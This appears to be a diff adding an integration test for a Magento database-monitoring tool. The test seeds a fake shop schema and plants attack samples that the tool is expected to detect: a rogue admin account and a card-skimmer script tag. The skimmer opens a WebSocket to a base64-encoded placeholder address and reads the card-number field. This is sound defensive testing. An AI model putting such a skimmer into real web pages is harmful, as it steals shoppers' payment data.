@@ -1,0 +1,201 @@
+#!/usr/bin/env python3
+"""Rows of a real MariaDB: a skimmer, a planted administrator, and what dies by itself.
+
+usage: rows.py MAGEWARDEN
+
+Starts MariaDB with its audit plugin on a free port of 127.0.0.1, makes magewarden's account with the printed grants, and
+watches with `up --source shop_rows`. Then writes a skimmer to configuration, a page and a layout, plants an
+administrator, and runs Magento's own clean-up statements: what died must still be in the ledger. Counts
+what our account asked of the server. Everything started here is ended by its process id.
+"""
+import json
+import os
+import pathlib
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+import urllib.request
+
+from thief import client, database, free_port, wait_for
+
+SECRET = "not-a-real-secret-5d1f"
+
+# The columns of Magento 2.4 that matter here, with others that must never be read.
+TABLES = f"""
+create database shop; use shop;
+create table mg_store_website (website_id smallint primary key, code varchar(32), is_default smallint);
+insert into mg_store_website values (0,'admin',0),(1,'base',1),(2,'second',0);
+create table mg_store (store_id smallint primary key, code varchar(32), website_id smallint, is_active smallint);
+insert into mg_store values (0,'admin',0,1),(1,'de',1,1),(2,'fr',1,1),(3,'us',2,1);
+create table mg_core_config_data (config_id int primary key auto_increment, scope varchar(8) default 'default', scope_id int default 0,
+  path varchar(255), value text, updated_at timestamp default current_timestamp on update current_timestamp);
+insert into mg_core_config_data (scope, scope_id, path, value) values ('default', 0, 'web/secure/base_url', 'https://shop.example.com/'),
+  ('default', 0, 'payment/gateway/private_key', '{SECRET}');
+create table mg_cms_page (page_id int primary key auto_increment, identifier varchar(100), title varchar(255), is_active smallint, content mediumtext,
+  layout_update_xml text, custom_layout_update_xml text);
+insert into mg_cms_page (identifier, title, is_active, content) values ('home', 'Home', 1, '<h1>Welcome</h1>');
+create table mg_layout_update (layout_update_id int primary key auto_increment, handle varchar(255), xml text);
+create table mg_admin_user (user_id int primary key auto_increment, username varchar(40), password varchar(255), email varchar(128), is_active smallint,
+  logdate timestamp null, lognum smallint default 0, failures_num smallint default 0, rp_token text, rp_token_created_at timestamp null,
+  created timestamp default current_timestamp, modified timestamp default current_timestamp);
+insert into mg_admin_user (username, password, email, is_active) values ('owner', '{SECRET}', 'owner@example.com', 1);
+create table mg_admin_user_session (id int primary key auto_increment, session_id varchar(1), user_id int, status smallint, created_at timestamp default current_timestamp,
+  updated_at timestamp default current_timestamp, ip varchar(15));
+insert into mg_admin_user_session (user_id, status, ip, updated_at) values (1, 1, '192.0.2.77', now() - interval 2 day);
+create table mg_password_reset_request_event (id int primary key auto_increment, request_type smallint, account_reference varchar(255), created_at timestamp, ip varchar(15));
+insert into mg_password_reset_request_event (request_type, account_reference, created_at, ip) values (1, 'owner@example.com', now() - interval 2 day, '192.0.2.78');
+create table mg_oauth_token (entity_id int primary key auto_increment, consumer_id int, admin_id int, customer_id int, type varchar(16), token varchar(32), secret varchar(128),
+  user_type int, revoked smallint, created_at timestamp default current_timestamp);
+insert into mg_oauth_token (admin_id, type, token, secret, user_type, created_at) values (1, 'access', '{SECRET[:20]}', '{SECRET}', 2, now() - interval 2 day);
+create table mg_cron_schedule (schedule_id int primary key auto_increment, job_code varchar(255), status varchar(7), created_at timestamp, scheduled_at timestamp null,
+  executed_at timestamp null, finished_at timestamp null);
+insert into mg_cron_schedule (job_code, status, created_at, finished_at) select concat('job_', seq), 'success', now() - interval 3 hour, now() - interval 2 hour from seq_1_to_300;
+create table mg_quote_payment (payment_id int primary key auto_increment, quote_id int, created_at timestamp default current_timestamp, updated_at timestamp default current_timestamp,
+  method varchar(255), cc_number_enc varchar(255), cc_cid_enc varchar(255), additional_information text);
+insert into mg_quote_payment (quote_id, method, cc_number_enc) values (41, 'checkmo', '{SECRET}');
+create table mg_sales_order_payment (entity_id int primary key, cc_number_enc varchar(128));
+create table mg_vault_payment_token (entity_id int primary key, gateway_token varchar(255));
+"""
+
+# What Magento's own jobs delete (`magento.md` §3.8).
+CLEAN_UP = """
+delete from mg_admin_user_session where updated_at < now() - interval 1 day;
+delete from mg_password_reset_request_event where created_at < now() - interval 1 day;
+delete from mg_oauth_token where created_at < now() - interval 4 hour and user_type = 2;
+delete from mg_cron_schedule where status = 'success' and finished_at < now() - interval 1 hour;
+delete from mg_quote_payment where quote_id = 41;
+"""
+
+
+def need(holds, what, shown=""):
+    if not holds:
+        raise SystemExit(f"FAILED: {what}\n{shown}")
+
+
+def main():
+    magewarden = pathlib.Path(sys.argv[1]).resolve()
+    started, folder = [], pathlib.Path(tempfile.mkdtemp(prefix="magewarden-rows-"))
+    try:
+        server, log = database(folder, free_port())
+        started.append(server)
+        sql = lambda text: subprocess.run(client(folder) + ["-N"], check=True, input=text, text=True, capture_output=True).stdout
+        sql(TABLES)
+        root = folder / "shop"
+        (root / "app" / "etc").mkdir(parents=True)
+        (root / "app" / "etc" / "env.php").write_text(
+            "<?php return ['db' => ['table_prefix' => 'mg_', 'connection' => ['default' => ["
+            f"'host' => '{folder}/sock', 'dbname' => 'shop', 'username' => 'shop', 'password' => '{SECRET}']]]];")
+        word = folder / "password"
+        word.write_text("its-own-password\n")
+        word.chmod(0o600)
+        asked = ["--magento", str(root), "--database-user", "magewarden", "--database-password-file", str(word), "--source", "shop_rows"]
+        printed = subprocess.run([str(magewarden), "up", *asked, "--print-grants"], check=True, capture_output=True, text=True).stdout
+        for column in ("cc_number_enc", "cc_cid_enc", "`password`", "`token`", "`secret`", "rp_token`", "session_id"):
+            need(column not in printed, f"the grants name {column}", printed)
+        # A table this shop doesn't have: its line is left out, as the text says.
+        there = set(sql("select table_name from information_schema.tables where table_schema = 'shop'").split())
+        have = set(sql("select concat(table_name, '.', column_name) from information_schema.columns where table_schema = 'shop'").split())
+        for line in printed.splitlines():
+            grant = re.match(r"GRANT SELECT \((.*)\) ON `shop`\.`(\w+)` TO (.*);", line)
+            if grant and grant[2] in there:
+                columns = [one for one in grant[1].split(", ") if f"{grant[2]}.{one.strip('`')}" in have]
+                sql(f"GRANT SELECT ({', '.join(columns)}) ON `shop`.`{grant[2]}` TO {grant[3]};")
+            elif line.startswith("CREATE USER"):
+                sql(line.replace(f"THE PASSWORD IN {word}", "its-own-password"))
+        console, data = free_port(), folder / "data"
+        err = open(folder / "err", "w+")
+
+        def start():
+            up = subprocess.Popen([str(magewarden), "up", *asked, "--log", str(log), "--data", str(data), "--port", str(console)], stderr=err)
+            started.append(up)
+            return up
+
+        def entries(*more):
+            out = subprocess.run([str(magewarden), "entries", str(data / "ledger"), "--source", "shop_rows:shop", "--limit", "100000", "--format", "ndjson", *more],
+                                 capture_output=True, text=True)
+            need(out.returncode == 0, "entries", out.stderr)
+            return [json.loads(json.loads(line)["text"]) for line in out.stdout.splitlines()]
+
+        def rows(table, change=None):
+            return [row for row in entries() if row.get("row.table") == table and change in (None, row.get("change"))]
+
+        def page(path="/"):
+            try:
+                return urllib.request.urlopen(f"http://127.0.0.1:{console}{path}", timeout=5).read().decode()
+            except OSError:
+                return ""
+
+        up = start()
+        wait_for("the console", 30, lambda: "<main" in page())
+        wait_for("every table seen", 60, lambda: len(rows("quote_payment")) == 1 and len(rows("cron_schedule")) == 300)
+        # What Magento's own jobs delete is in the ledger.
+        sql("use shop;" + CLEAN_UP)
+        for table, count in (("admin_user_session", 1), ("password_reset_request_event", 1), ("oauth_token", 1), ("cron_schedule", 300), ("quote_payment", 1)):
+            need(int(sql(f"select count(*) from shop.mg_{table}")) == 0, f"{table} was cleaned")
+            need(len(rows(table)) == count, f"{table}: what died is in the ledger", rows(table))
+        need(any("ip=192.0.2.77" in value for value in rows("admin_user_session")[0]["row.values"]), "the session's address is kept")
+        # Harm, each at its store.
+        skimmer = "<script>var s=new WebSocket(atob(\\'d3NzOi8vMTk4LjUxLjEwMC45\\'));document.querySelector(\\'[name=cc_number]\\')</script>"
+        sql(f"""use shop;
+            insert into mg_core_config_data (scope, scope_id, path, value) values ('websites', 2, 'design/head/includes', '{skimmer}');
+            update mg_cms_page set content = '<h1>Welcome</h1>{skimmer}' where page_id = 1;
+            insert into mg_layout_update (handle, xml) values ('checkout_index_index', '<referenceBlock name="h"><action method="x"><argument>system</argument></action></referenceBlock>');
+            insert into mg_admin_user (username, is_active) values ('support2', 1);""")
+        wait_for("what was planted", 90, lambda: all(rows(table, change) for table, change in (
+            ("core_config_data", "created"), ("cms_page", "modified"), ("layout_update", "created"), ("admin_user", "created"))))
+        need(rows("core_config_data", "created")[0].get("shop.website") == "second", "the skimmer's website is told", rows("core_config_data", "created"))
+        def told():
+            return " ".join(page(link) for link in re.findall(r'href="(/incidents/[0-9a-f]+)"', page()))
+
+        # One incident: the account that wrote it stands in the audit log, what and where in the rows.
+        wanted = ("Skimmer", "calls code", "design/head/includes", "cms_page:1", "layout_update:1", "admin_user:2", "root", "website second")
+        wait_for("what was planted, by whom and where, on the pages", 30, lambda: all(word in told() for word in wanted))
+        # Nothing that must not be read was read.
+        sealed = json.dumps(entries())
+        need(SECRET not in sealed and SECRET[:20] not in sealed, "a secret was read")
+        # A start tells only what is new.
+        before = len(entries())
+        up.send_signal(signal.SIGKILL)
+        up.wait(20)
+        up = start()
+        wait_for("the console", 30, lambda: "<main" in page())
+        time.sleep(12)
+        need(len(entries()) == before, f"a start tells nothing twice: {before} and {len(entries())}")
+        # What our account asked of the server, and how fast.
+        audit = log.read_text(errors="replace")
+        own = [line for line in audit.splitlines() if ",magewarden," in line and ",QUERY," in line]
+        busiest = max((sum(1 for line in own if line.startswith(second)) for second in {line[:17] for line in own}), default=0)
+        need(0 < busiest <= 15, f"at most five statements a second, at the log-in a few more: {busiest}")
+        need(not any(column in line for line in own for column in ("cc_number_enc", "cc_cid_enc", "rp_token,", "`password`")), "a statement names what must not be read")
+        # A database that goes is said, and comes back by itself.
+        server.terminate()
+        server.wait(30)
+        wait_for("the trouble on the page", 90, lambda: "failing" in page("/sources"))
+        wait_for("the trouble as an incident", 30, lambda: "evidence doesn&#39;t work" in page())
+        need('magewarden_source_works{source="shop_rows:shop"} 0' in page("/metrics"), "the trouble in the metrics", page("/metrics"))
+        up.send_signal(signal.SIGTERM)
+        up.wait(30)
+        health = subprocess.run([str(magewarden), "entries", str(data / "ledger"), "--source", "magewarden:health", "--format", "ndjson"], capture_output=True, text=True).stdout
+        need('failing' in health and 'shop_rows:shop' in health, "the trouble is sealed", health)
+        need(subprocess.run([str(magewarden), "verify", str(data / "ledger")], capture_output=True).returncode == 0, "the ledger verifies")
+        print(f"1 passed, 0 failed ({before} rows sealed, at most {busiest} statements a second)")
+    except SystemExit:
+        sys.stderr.write((folder / "err").read_text() if (folder / "err").exists() else "")
+        raise
+    finally:
+        for process in reversed(started):
+            if process.poll() is None:
+                process.terminate()
+                try:
+                    process.wait(20)
+                except subprocess.TimeoutExpired:
+                    process.kill()
+        shutil.rmtree(folder, ignore_errors=True)
+
+
+if __name__ == "__main__":
+    main()
